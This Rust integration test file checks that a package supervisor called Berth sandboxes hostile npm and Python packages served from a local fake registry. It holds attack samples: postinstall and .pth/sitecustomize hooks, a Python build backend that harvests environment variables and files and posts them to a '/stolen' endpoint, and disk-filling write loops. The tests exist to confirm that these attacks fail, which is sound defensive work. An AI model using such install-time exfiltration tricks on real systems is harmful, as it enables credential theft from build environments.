//! Packages of an attacker, from a registry of the test's own, which asks for the site's credentials: what their code
//! reaches while they are installed, what Berth then says of them, and how much they may write.

use std::{
    collections::BTreeMap,
    io::{Read, Write},
    net::{TcpListener, TcpStream, UdpSocket},
    path::Path,
    process::Command,
    sync::{Arc, Mutex},
    time::Duration,
};

use base64::{Engine as _, engine::general_purpose::STANDARD as BASE64};
use serde_json::{Value, json};
use sha2::{Digest, Sha256, Sha512};

use crate::{
    generic::builds,
    support::{Appliance, Options, root, wait_for},
};

const MINUTE: Duration = Duration::from_secs(60);
/// The site's credentials: of npm's registry, of Python's index, of the proxy.
const NPM: &str = "npm-s3cret-of-the-site";
const PYTHON: &str = "index-s3cret-of-the-site";
const PROXY: &str = "proxy-s3cret-of-the-site";
/// What each of them has.
const SECRET: &str = "s3cret-of-the-site";

fn fixture(name: &str) -> String {
    std::fs::read_to_string(root().join("tests/fixtures/strangers").join(name)).unwrap()
}

/// A registry of npm, an index of Python and a proxy for http in one. Answers nobody without a credential.
struct Registry {
    host: String,
    /// Goes with the test.
    dir: tempfile::TempDir,
    served: Arc<Mutex<BTreeMap<String, Vec<u8>>>>,
    asked: Arc<Mutex<Vec<String>>>,
    /// What was posted out.
    stolen: Arc<Mutex<Vec<String>>>,
}

impl Registry {
    fn start() -> Self {
        // The host's own address, which containers with a network reach. Nothing is sent.
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        socket.connect("198.51.100.1:9").unwrap();
        let address = socket.local_addr().unwrap().ip();
        let listener = TcpListener::bind((address, 0)).unwrap();
        let r = Self {
            host: listener.local_addr().unwrap().to_string(),
            dir: tempfile::tempdir().unwrap(),
            served: Arc::default(),
            asked: Arc::default(),
            stolen: Arc::default(),
        };
        let (served, asked, stolen) = (r.served.clone(), r.asked.clone(), r.stolen.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let (served, asked, stolen) = (served.clone(), asked.clone(), stolen.clone());
                std::thread::spawn(move || {
                    let _ = answer(stream, &served, &asked, &stolen);
                });
            }
        });
        r
    }

    fn at(&self) -> String {
        format!("http://{}", self.host)
    }

    fn serve(&self, path: &str, body: Vec<u8>) {
        self.served.lock().unwrap().insert(path.to_owned(), body);
    }

    /// A version of an npm package, made of these files beside its `package.json`.
    fn npm(&self, manifest: &Value, files: &[(&str, &[u8])]) {
        let dir = tempfile::tempdir().unwrap();
        let package = dir.path().join("package");
        let whole = manifest.to_string();
        for (name, content) in files.iter().copied().chain([("package.json", whole.as_bytes())]) {
            let at = package.join(name);
            std::fs::create_dir_all(at.parent().unwrap()).unwrap();
            std::fs::write(at, content).unwrap();
        }
        self.npm_folder(manifest, dir.path());
    }

    /// The same, of a folder that holds `package/`.
    fn npm_folder(&self, manifest: &Value, dir: &Path) {
        let tar = Command::new("tar")
            .args(["-cz", "-C"])
            .arg(dir)
            .arg("package")
            .output()
            .unwrap();
        assert!(tar.status.success());
        let (name, version) = (
            manifest["name"].as_str().unwrap(),
            manifest["version"].as_str().unwrap(),
        );
        let file = format!("/{name}/-/{version}.tgz");
        let mut entry = manifest.clone();
        entry["dist"] = json!({
            "tarball": format!("{}{file}", self.at()),
            "integrity": format!("sha512-{}", BASE64.encode(Sha512::digest(&tar.stdout))),
        });
        entry["hasInstallScript"] = json!(manifest["scripts"].get("postinstall").is_some());
        self.serve(&file, tar.stdout);
        let document = json!({ "name": name, "dist-tags": { "latest": version }, "versions": { version: entry } });
        self.serve(
            &format!("/{}", name.replace('/', "%2f")),
            document.to_string().into_bytes(),
        );
    }

    /// A wheel of these files; what every wheel has is added.
    fn wheel(&self, name: &str, version: &str, files: &[(String, Vec<u8>)]) {
        self.wheel_needing(name, version, "", files);
    }

    /// The same with a line of what it needs.
    fn wheel_needing(&self, name: &str, version: &str, needs: &str, files: &[(String, Vec<u8>)]) {
        let info = format!("{name}-{version}.dist-info");
        let mut all = files.to_vec();
        all.push((
            format!("{info}/METADATA"),
            format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{needs}").into(),
        ));
        all.push((
            format!("{info}/WHEEL"),
            b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
        ));
        let mut record: String = all.iter().map(|(path, _)| format!("{path},,\n")).collect();
        record += &format!("{info}/RECORD,,\n");
        all.push((format!("{info}/RECORD"), record.into_bytes()));
        let whole = zip(&all);
        let file = format!("{name}-{version}-py3-none-any.whl");
        self.simple(name, &file, whole);
    }

    /// The source of a package that has no wheel: its `pyproject.toml` names `tools`, and a build backend of its own.
    fn source(&self, name: &str, version: &str, tools: &str, backend: &str) {
        let dir = tempfile::tempdir().unwrap();
        let top = format!("{name}-{version}");
        std::fs::create_dir(dir.path().join(&top)).unwrap();
        let project = format!(
            "[build-system]\nrequires = [{tools}]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\
             [project]\nname = \"{name}\"\nversion = \"{version}\"\n"
        );
        let info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
        for (file, content) in [
            ("pyproject.toml", project.as_str()),
            ("backend.py", backend),
            ("PKG-INFO", &info),
        ] {
            std::fs::write(dir.path().join(&top).join(file), content).unwrap();
        }
        let tar = Command::new("tar")
            .args(["-cz", "-C"])
            .arg(dir.path())
            .arg(&top)
            .output()
            .unwrap();
        assert!(tar.status.success());
        self.simple(name, &format!("{top}.tar.gz"), tar.stdout);
    }

    /// The page of a Python package with one file.
    fn simple(&self, name: &str, file: &str, whole: Vec<u8>) {
        let hash: String = Sha256::digest(&whole).iter().map(|b| format!("{b:02x}")).collect();
        let page =
            format!("<!DOCTYPE html><html><body><a href=\"/wheels/{file}#sha256={hash}\">{file}</a></body></html>");
        self.serve(&format!("/wheels/{file}"), whole);
        self.serve(&format!("/simple/{}/", name.replace('_', "-")), page.into_bytes());
    }

    /// A supervisor whose site is this registry, with credentials wherever a site may have them.
    fn site(&self, extra: &str) -> Appliance {
        let npmrc = self.dir.path().join("npmrc");
        std::fs::write(&npmrc, format!("//{}/:_authToken={NPM}\n", self.host)).unwrap();
        Appliance::with(Options {
            extra: format!(
                "[install]\nnpm_registry = \"{at}/\"\npython_index = \"http://site:{PYTHON}@{host}/simple/\"\n\
                 proxy = \"http://site:{PROXY}@{host}\"\n{extra}",
                at = self.at(),
                host = self.host
            ),
            env: vec![("NPM_CONFIG_USERCONFIG", npmrc.display().to_string())],
            ..Options::default()
        })
    }

    fn stolen(&self) -> Vec<String> {
        self.stolen.lock().unwrap().clone()
    }
}

/// Answers one request.
fn answer(
    mut stream: TcpStream,
    served: &Mutex<BTreeMap<String, Vec<u8>>>,
    asked: &Mutex<Vec<String>>,
    stolen: &Mutex<Vec<String>>,
) -> std::io::Result<()> {
    stream.set_read_timeout(Some(MINUTE))?;
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 64 << 10 {
        stream.read_exact(&mut byte)?;
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let mut target = head.split(' ').nth(1).unwrap_or_default();
    if let Some((_, rest)) = target.split_once("://") {
        target = rest.find('/').map_or("/", |at| &rest[at..]);
    }
    let path = target.to_owned();
    asked.lock().unwrap().push(path.clone());
    if path.starts_with("/stolen") || head.starts_with("CONNECT") {
        let mut body = vec![0; 1 << 16];
        let n = stream.read(&mut body).unwrap_or(0);
        stolen
            .lock()
            .unwrap()
            .push(format!("{path} {}", String::from_utf8_lossy(&body[..n])));
        return stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    }
    let basic = format!("Basic {}", BASE64.encode(format!("site:{PYTHON}")));
    let known = head.contains(&format!("Bearer {NPM}")) || head.contains(&basic);
    let body = served.lock().unwrap().get(&path).cloned();
    let (status, body) = match body {
        _ if !known => ("401 Unauthorized\r\nWWW-Authenticate: Basic", Vec::new()),
        Some(body) => ("200 OK", body),
        None => ("404 Not Found", Vec::new()),
    };
    let kind = if path.starts_with("/simple") {
        "text/html"
    } else {
        "application/json"
    };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(&body)
}

/// An archive of files as they are, without compression (PKWARE's APPNOTE, 4.3).
fn zip(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in files {
        let at = u32::try_from(out.len()).unwrap();
        let mut fields = Vec::new();
        fields.extend([20u16, 0, 0, 0, 0x21].map(u16::to_le_bytes).concat());
        let size = u32::try_from(content.len()).unwrap();
        fields.extend([crc32(content), size, size].map(u32::to_le_bytes).concat());
        fields.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        fields.extend([0, 0]);
        out.extend(b"PK\x03\x04");
        out.extend(&fields);
        out.extend(name.as_bytes());
        out.extend(content);
        directory.extend(b"PK\x01\x02\x14\x03");
        directory.extend(&fields);
        directory.extend([0; 6]);
        directory.extend((0o100_755u32 << 16).to_le_bytes());
        directory.extend(at.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let (start, length) = (
        u32::try_from(out.len()).unwrap(),
        u32::try_from(directory.len()).unwrap(),
    );
    let count = u16::try_from(files.len()).unwrap().to_le_bytes();
    out.extend(directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend([count, count].concat());
    out.extend([length, start].map(u32::to_le_bytes).concat());
    out.extend([0, 0]);
    out
}

fn crc32(bytes: &[u8]) -> u32 {
    let step = |c: u32, _| if c & 1 == 1 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
    !bytes
        .iter()
        .fold(!0u32, |crc, b| (0..8).fold(crc ^ u32::from(*b), step))
}

/// Bytes that do not compress: npm refuses what does too well.
fn noise(bytes: usize) -> Vec<u8> {
    let mut x = 0x2545_F491u32;
    let next = |_| {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        x.to_le_bytes()[0]
    };
    (0..bytes).map(next).collect()
}

fn run(a: &Appliance, args: &[&str]) -> Value {
    a.json(&[&["run"], args].concat())
}

/// The site's credentials are in no log and no file of the supervisor, nor anywhere in an instance's image.
fn nothing_of_the_site_stays(a: &Appliance, id: &str) {
    assert!(!a.log().contains(SECRET), "the log");
    let kept = Command::new("grep")
        .args(["-rlF", SECRET])
        .arg(a.dir().join("state"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&kept.stdout), "", "the state");
    let container = a.container_of(id);
    let image = a.inspect(id)["Image"].as_str().unwrap().to_owned();
    let told = [
        a.docker_lines(&["image", "inspect", &image]),
        a.docker_lines(&["history", "--no-trunc", &image]),
        a.docker_lines(&["inspect", &container]),
    ];
    assert!(!told.concat().concat().contains(SECRET), "what the engine tells");
    let found = a.docker(&[
        "exec",
        "--user",
        "10001:10001",
        &container,
        "grep",
        "-rlF",
        SECRET,
        "/opt",
        "/srv",
        "/etc",
        "/tmp",
        "/home",
        "/root",
    ]);
    assert_eq!(String::from_utf8_lossy(&found.stdout), "", "the image");
}

/// What fetches a package reaches the registry that the site names, and no other port of the machine that it is on.
#[test]
fn an_installation_reaches_the_registry_and_no_service_beside_it() {
    let r = Registry::start();
    let machine = r.host.parse::<std::net::SocketAddr>().unwrap().ip();
    let [registry, service] = [0; 2].map(|port| TcpListener::bind((machine, port)).unwrap());
    let ports = [&registry, &service].map(|l| l.local_addr().unwrap().port());
    let a = Appliance::with(Options {
        extra: format!("[install]\nnpm_registry = \"http://{machine}:{}/\"\n", ports[0]),
        ..Options::default()
    });
    // It is asked for the package, and has not answered yet.
    let (tell, asked) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let held: Vec<_> = registry
            .incoming()
            .take(1)
            .inspect(|_| tell.send(()).unwrap())
            .collect();
        let _ = service.accept();
        drop(held);
    });
    let v = run(
        &a,
        &["npx", "--package", "strangers-prober", "--network", "none", "--no-wait"],
    );
    asked.recv_timeout(MINUTE).expect("the registry is asked");
    let installing = a.docker_lines(&["ps", "-q", "--filter", &format!("label=berth.box={}", a.box_id())]);
    let connects = |port: u16| {
        let script = format!(
            "require('net').connect({port}, '{machine}').on('connect', () => process.exit(0)).on('error', () => process.exit(7))"
        );
        a.docker(&["exec", &installing[0], "node", "-e", &script]).status.code()
    };
    assert_eq!(ports.map(connects), [Some(0), Some(7)]);
    a.cli(&["rm", v["id"].as_str().unwrap()]);
}

#[test]
fn an_install_script_has_no_network_and_finds_nothing_of_the_site() {
    let r = Registry::start();
    let places = format!("{}\nhttp://127.0.0.1:80\nhttp://93.184.216.34\n", r.at());
    r.npm(
        &json!({ "name": "@strangers/thief", "version": "1.0.0", "bin": { "thief": "server.js" },
                 "dependencies": { "strangers-bystander": "2.0.0" }, "scripts": { "postinstall": "node steal.js" } }),
        &[
            ("server.js", fixture("server.js").as_bytes()),
            ("steal.js", fixture("steal.js").as_bytes()),
            ("places", places.as_bytes()),
        ],
    );
    r.npm(
        &json!({ "name": "strangers-bystander", "version": "2.0.0" }),
        &[("index.js", b"")],
    );
    let a = r.site("");
    let v = run(&a, &["npx", "--package", "@strangers/thief", "--network", "none"]);
    let id = v["id"].as_str().unwrap();
    // It ran, and saw neither a network nor a credential.
    let container = a.container_of(id);
    let loot = a.docker(&[
        "exec",
        "--user",
        "10001:10001",
        &container,
        "cat",
        "/opt/mcp/node_modules/@strangers/thief/loot.json",
    ]);
    let loot = String::from_utf8(loot.stdout).unwrap();
    let seen: Value = serde_json::from_str(&loot).expect("the script ran");
    assert_eq!(seen["interfaces"], json!(["lo"]));
    assert_eq!(seen["posted"], json!([]));
    assert!(
        seen["files"].as_object().unwrap().len() > 10,
        "it looked around: {loot:.2000}"
    );
    assert!(!loot.contains(SECRET), "{loot:.2000}");
    assert_eq!(r.stolen(), Vec::<String>::new());
    nothing_of_the_site_stays(&a, id);
    let log = a.cli(&["logs", "--deploy", id]);
    assert!(
        log.contains("install scripts, without a network: @strangers/thief@1.0.0"),
        "{log}"
    );

    // What a .NET program needs where there is no ICU.
    let env = a.inspect(id)["Config"]["Env"].to_string();
    assert!(env.contains("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=1"), "{env}");

    // What it forged is nothing that Berth says: neither now nor at the next deploy, nor once the image is made again.
    let true_words = |id: &str| {
        let package = a.show(id)["package"].clone();
        assert_eq!(package["version"], "1.0.0", "{package:#}");
        assert_eq!(
            package["tree"],
            json!(["@strangers/thief@1.0.0", "strangers-bystander@2.0.0"]),
            "{package:#}"
        );
        package["lock"].clone()
    };
    let lock = true_words(id);
    let forged = a.docker(&[
        "exec",
        "--user",
        "10001:10001",
        &container,
        "cat",
        "/opt/mcp/package-lock.json",
    ]);
    let forged = String::from_utf8_lossy(&forged.stdout).into_owned();
    assert!(forged.contains("9.9.9-forged"), "it did forge what it found: {forged}");
    let second = run(&a, &["npx", "--package", "@strangers/thief", "--network", "none"]);
    let second = second["id"].as_str().unwrap();
    let said = a.cli(&["logs", "--deploy", second]);
    assert!(said.contains("1.0.0 is installed already"), "{said}");
    assert!(
        !said.contains("asking the registry"),
        "it was asked a moment ago: {said}"
    );
    assert_eq!(true_words(second), lock);
    a.cli(&["stop", id, second]);
    a.docker_lines(&["rm", "-f", &container]);
    for image in a.built_images() {
        a.docker_lines(&["rmi", "-f", &image]);
    }
    a.cli(&["start", id]);
    a.wait_state(id, "running", MINUTE * 2);
    assert_eq!(true_words(id), lock, "installed again, by the lock that was kept");
}

#[test]
fn no_code_of_a_wheel_runs_while_it_is_installed() {
    let r = Registry::start();
    let steal = fixture("steal.py").replace("PLACE", &r.at()).into_bytes();
    let file = |name: &str, content: &[u8]| (name.to_owned(), content.to_vec());
    let data = "strangers_wheel-1.0.0.data";
    r.wheel(
        "strangers_wheel",
        "1.0.0",
        &[
            file("strangers_wheel/__init__.py", fixture("server.py").as_bytes()),
            file("strangers_attack.py", &steal),
            file("strangers_attack.pth", b"import strangers_attack\n"),
            file("sitecustomize.py", &steal),
            file("usercustomize.py", &steal),
            // As modules of the tools that look at it might be called.
            file("importlib/__init__.py", &steal),
            file("json.py", &steal),
            file(
                &format!("{data}/purelib/harmless-9.9.9.dist-info/METADATA"),
                b"Metadata-Version: 2.1\nName: harmless\nVersion: 9.9.9\n",
            ),
            file(
                "strangers_wheel-1.0.0.dist-info/entry_points.txt",
                b"[console_scripts]\nstrangers-wheel = strangers_wheel:main\n",
            ),
        ],
    );
    let a = r.site("");
    let v = run(
        &a,
        &[
            "uvx",
            "--package",
            "strangers-wheel",
            "--network",
            "none",
            "--processes",
            "shared",
        ],
    );
    let id = v["id"].as_str().unwrap();
    assert_eq!(r.stolen(), Vec::<String>::new());
    let container = a.container_of(id);
    let marks = a.docker(&[
        "exec",
        "--user",
        "10001:10001",
        &container,
        "find",
        "/opt/mcp",
        "/srv",
        "-name",
        "ran",
    ]);
    assert_eq!(String::from_utf8_lossy(&marks.stdout), "", "nothing of it ran");
    let find = ["exec", "--user", "10001:10001", &container, "find", "/opt/mcp", "-name"];
    assert_eq!(
        a.docker_lines(&[&find[..], &["strangers_attack.pth"]].concat()).len(),
        1,
        "it is there"
    );
    assert_eq!(
        a.docker_lines(&[&find[..], &["strangers_attack.*.pyc"]].concat()).len(),
        1,
        "and compiled"
    );
    let package = a.show(id)["package"].clone();
    assert_eq!(package["version"], "1.0.0");
    assert_eq!(package["tree"], json!(["strangers-wheel@1.0.0"]), "{package:#}");
    nothing_of_the_site_stays(&a, id);
}

/// A build backend that looks for a network and for the site's credentials, and builds a wheel that says what it found.
const BUILDER: &str = r#"
import os, urllib.request, zipfile
import strangers_tools

found = [f"{k}={v}" for k, v in os.environ.items()]
for folder in ("/srv", "/tmp", "/opt/mcp"):
    for at, _, names in os.walk(folder):
        for name in names:
            try:
                found.append(open(os.path.join(at, name), errors="replace").read(65536))
            except OSError:
                pass
reached = []
try:
    reached.append(urllib.request.urlopen("PLACE/stolen", data=b"x", timeout=5).status)
except OSError:
    pass

def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "strangers_source-1.0.0-py3-none-any.whl"
    info = "strangers_source-1.0.0.dist-info"
    said = {"interfaces": sorted(os.listdir("/sys/class/net")), "reached": reached, "looked": len(found),
            "secret": any("DRAWKCAB"[::-1] in f for f in found), "tools": strangers_tools.NAME}
    with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
        z.writestr("strangers_source.py", f"LOOT = {said!r}\n")
        z.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: strangers-source\nVersion: 1.0.0\n")
        z.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(f"{info}/RECORD", "")
    return name
"#;

#[test]
fn a_python_package_without_a_wheel_is_built_where_no_network_is() {
    let r = Registry::start();
    let file = |name: &str, content: &[u8]| (name.to_owned(), content.to_vec());
    // Not as it is: the backend finds itself, too.
    let backwards: String = SECRET.chars().rev().collect();
    let backend = BUILDER.replace("PLACE", &r.at()).replace("DRAWKCAB", &backwards);
    r.source("strangers_source", "1.0.0", "\"strangers-tools\"", &backend);
    r.wheel(
        "strangers_tools",
        "5.0.0",
        &[file("strangers_tools.py", b"NAME = 'tools'\n")],
    );
    let server = format!("import json, strangers_source\n{}", fixture("server.py"));
    let parts = |name: &str| {
        [
            file(&format!("{name}/__init__.py"), server.as_bytes()),
            file(
                &format!("{name}-1.0.0.dist-info/entry_points.txt"),
                format!("[console_scripts]\n{} = {name}:main\n", name.replace('_', "-")).as_bytes(),
            ),
        ]
    };
    let needs = "Requires-Dist: strangers-source >= 1\n";
    r.wheel_needing("strangers_mixed", "1.0.0", needs, &parts("strangers_mixed"));
    let a = r.site("");
    let v = run(&a, &["uvx", "--package", "strangers-mixed", "--network", "none"]);
    let id = v["id"].as_str().unwrap();
    assert_eq!(r.stolen(), Vec::<String>::new());
    let log = a.cli(&["logs", "--deploy", id]);
    assert!(
        log.contains("building from source, without a network: strangers-source@1.0.0"),
        "{log}"
    );
    let loot = |id: &str| {
        let container = a.container_of(id);
        let print = "import json, strangers_source; print(json.dumps(strangers_source.LOOT))";
        let said = [
            "exec",
            "--user",
            "10001:10001",
            &container,
            "/opt/mcp/bin/python",
            "-c",
            print,
        ];
        let said: Value = serde_json::from_str(&a.docker_lines(&said)[0]).unwrap();
        assert_eq!(said["interfaces"], json!(["lo"]), "{said}");
        assert_eq!(
            (&said["reached"], &said["secret"]),
            (&json!([]), &json!(false)),
            "{said}"
        );
        assert_eq!(said["tools"], "tools");
        assert!(said["looked"].as_u64().unwrap() > 10, "it looked around: {said}");
        let left = ["exec", "--user", "10001:10001", &container, "ls", "-A", "/opt/mcp"];
        assert!(!a.docker_lines(&left).contains(&".build".to_owned()));
    };
    loot(id);
    let package = a.show(id)["package"].clone();
    assert_eq!(
        package["tree"],
        json!(["strangers-mixed@1.0.0", "strangers-source@1.0.0"]),
        "{package:#}"
    );
    nothing_of_the_site_stays(&a, id);

    // Once its image is lost it is built again, from the source that the lock names.
    a.cli(&["stop", id]);
    a.docker_lines(&["rm", "-f", &a.container_of(id)]);
    for image in a.built_images() {
        a.docker_lines(&["rmi", "-f", &image]);
    }
    a.cli(&["start", id]);
    a.wait_state(id, "running", MINUTE * 2);
    loot(id);
    assert_eq!(a.show(id)["package"]["lock"], package["lock"]);
}

#[test]
fn what_cannot_be_built_from_source_is_told_without_flags() {
    let r = Registry::start();
    let fails = "raise SystemExit(\"error: command 'gcc' failed: no such file\")\n";
    r.source("strangers_native", "1.0.0", "", fails);
    r.source("strangers_toolless", "1.0.0", "\"strangers-native\"", fails);
    for (name, needs) in [
        ("strangers_wants", "strangers-native"),
        ("strangers_lacks", "strangers-toolless"),
    ] {
        let entry = format!("[console_scripts]\nrun = {name}:main\n");
        r.wheel_needing(
            name,
            "1.0.0",
            &format!("Requires-Dist: {needs}\n"),
            &[(format!("{name}-1.0.0.dist-info/entry_points.txt"), entry.into_bytes())],
        );
    }
    let a = r.site("");
    let said = a.cli_fails(1, &["run", "uvx", "--package", "strangers-wants"]);
    for words in [
        "built from source",
        "without a compiler",
        "command 'gcc' failed",
        "run an image",
    ] {
        assert!(said.contains(words), "{words}: {said}");
    }
    let other = a.cli_fails(1, &["run", "uvx", "--package", "strangers-lacks"]);
    for words in [
        "strangers-toolless 1.0.0 is to be had as source only",
        "strangers-native",
        "run an image",
    ] {
        assert!(other.contains(words), "{words}: {other}");
    }
    assert!(![said, other].concat().contains("--no-b"), "no flag of uv");
    assert_eq!(r.stolen(), Vec::<String>::new());
    wait_for("what installed is gone", MINUTE, || builds(&a).is_empty());
}

#[test]
fn what_cannot_be_installed_without_a_network_or_from_git_is_told() {
    let r = Registry::start();
    let needs = |name: &str, more: Value| {
        let mut manifest = json!({ "name": name, "version": "1.0.0", "bin": { name: "server.js" } });
        manifest
            .as_object_mut()
            .unwrap()
            .extend(more.as_object().unwrap().clone());
        let script = format!(
            "fetch('{}/binary').catch(() => {{ console.error('no prebuilt binary to be had'); process.exit(3) }})",
            r.at()
        );
        r.npm(
            &manifest,
            &[
                ("server.js", fixture("server.js").as_bytes()),
                ("get.js", script.as_bytes()),
            ],
        );
    };
    needs(
        "strangers-download",
        json!({ "scripts": { "postinstall": "node get.js" } }),
    );
    let sha = "0123456789012345678901234567890123456789";
    needs(
        "strangers-git",
        json!({ "dependencies": { "evil": format!("github:strangers/evil#{sha}") } }),
    );
    needs(
        "strangers-folder",
        json!({ "dependencies": { "evil": "file:/srv/build" } }),
    );
    let a = r.site("");
    let said = a.cli_fails(1, &["run", "npx", "--package", "strangers-download"]);
    assert!(said.contains("without a network"), "{said}");
    assert!(
        said.contains("no prebuilt binary to be had"),
        "the script's own words: {said}"
    );
    let said = a.cli_fails(1, &["run", "npx", "--package", "strangers-git"]);
    assert!(said.contains("EALLOWGIT"), "{said}");
    let said = a.cli_fails(1, &["run", "npx", "--package", "strangers-folder"]);
    assert!(said.contains("EALLOWDIRECTORY"), "{said}");
    assert_eq!(r.stolen(), Vec::<String>::new());
    wait_for("what installed is gone", MINUTE, || builds(&a).is_empty());
}

/// What npm does with an optional dependency that cannot be built, and with what only it needs.
#[test]
fn an_optional_dependency_whose_script_fails_is_left_out() {
    let r = Registry::start();
    let mut server = json!({ "name": "strangers-picky", "version": "1.0.0", "bin": { "picky": "server.js" } });
    server["optionalDependencies"] = json!({ "strangers-native": "2.0.0" });
    server["dependencies"] = json!({ "strangers-shared": "3.0.0" });
    r.npm(&server, &[("server.js", fixture("server.js").as_bytes())]);
    r.npm(
        &json!({ "name": "strangers-native", "version": "2.0.0", "bin": { "native": "build.js" },
                 "dependencies": { "strangers-shared": "3.0.0", "strangers-own": "4.0.0" },
                 "scripts": { "postinstall": "node build.js" } }),
        &[("build.js", b"console.error('gyp ERR! no compiler'); process.exit(7)")],
    );
    for (name, version) in [("strangers-shared", "3.0.0"), ("strangers-own", "4.0.0")] {
        r.npm(&json!({ "name": name, "version": version }), &[("index.js", b"")]);
    }
    let a = r.site("");
    let v = run(&a, &["npx", "--package", "strangers-picky", "--network", "none"]);
    let id = v["id"].as_str().unwrap();
    let log = a.cli(&["logs", "--deploy", id]);
    let told =
        "strangers-native@2.0.0 is optional and left out: its install script failed (status 7): gyp ERR! no compiler";
    assert!(log.contains(told), "{log}");
    let container = a.container_of(id);
    let at = "/opt/mcp/node_modules";
    let there = [
        "exec",
        "--user",
        "10001:10001",
        &container,
        "ls",
        "-A",
        at,
        "/opt/mcp/node_modules/.bin",
    ];
    let there = a.docker_lines(&there);
    assert_eq!(
        there,
        [
            "/opt/mcp/node_modules:",
            ".bin",
            "strangers-picky",
            "strangers-shared",
            "",
            "/opt/mcp/node_modules/.bin:",
            "picky"
        ]
    );
}

#[test]
fn the_first_line_of_a_servers_stack_is_in_the_reason() {
    let r = Registry::start();
    let server = "console.error('Process terminated. Install the library, or set SOME_FLAG=1.')\n\
                  for (let n = 0; n < 200; n++) console.error(`   at Some.Thing.Deep${n}()`)\nprocess.exit(134)\n";
    r.npm(
        &json!({ "name": "strangers-stack", "version": "1.0.0", "bin": { "stack": "server.js" } }),
        &[("server.js", format!("#!/usr/bin/env node\n{server}").as_bytes())],
    );
    let a = r.site("");
    let said = a.cli_fails(1, &["run", "npx", "--package", "strangers-stack", "--network", "none"]);
    let reason = said
        .lines()
        .find(|l| l.contains("exited with status 134"))
        .unwrap_or(&said);
    assert!(
        reason.contains("set SOME_FLAG=1") && reason.contains("Deep199"),
        "{said}"
    );
}

#[test]
fn the_kernel_bounds_what_an_installation_writes_in_bytes_and_in_files() {
    let r = Registry::start();
    let server = fixture("server.js");
    let small = |name: &str, more: &[(&str, &[u8])], scripts: Value| {
        let manifest = json!({ "name": name, "version": "1.0.0", "bin": { name: "server.js" }, "scripts": scripts });
        r.npm(&manifest, &[&[("server.js", server.as_bytes())], more].concat());
    };
    let huge = noise(40 << 20);
    small("strangers-huge", &[("huge", &huge)], json!({}));
    let names: Vec<String> = (0..5000).map(|n| format!("many/{n}")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b""[..])).collect();
    small("strangers-many", &many, json!({}));
    let write = "const fs = require('fs'); for (let n = 0; ; n++) fs.writeFileSync(`f${n}`, Buffer.alloc(SIZE))";
    for (name, size) in [("strangers-writes-huge", "1 << 20"), ("strangers-writes-many", "0")] {
        let script = write.replace("SIZE", size);
        small(
            name,
            &[("write.js", script.as_bytes())],
            json!({ "postinstall": "node write.js" }),
        );
    }
    let files: Vec<(String, Vec<u8>)> = (0..5000)
        .map(|n| (format!("strangers_many/f{n}.py"), Vec::new()))
        .collect();
    r.wheel("strangers_many", "1.0.0", &files);
    r.wheel(
        "strangers_huge",
        "1.0.0",
        &[("strangers_huge/__init__.py".to_owned(), huge)],
    );

    let a = r.site("disk_bytes = 33554432\n");
    let npm = [
        "strangers-huge",
        "strangers-many",
        "strangers-writes-huge",
        "strangers-writes-many",
    ]
    .map(|p| ("npx", p));
    for (kind, package) in npm
        .into_iter()
        .chain([("uvx", "strangers-many"), ("uvx", "strangers-huge")])
    {
        let said = a.cli_fails(1, &["run", kind, "--package", package]);
        assert!(
            said.contains("more than 33554432 bytes or 4096 files; raise disk_bytes in [install]"),
            "{kind} {package}: {said}"
        );
    }
    assert_eq!(a.built_images(), Vec::<String>::new());
    wait_for("what installed is gone", MINUTE, || builds(&a).is_empty());
}
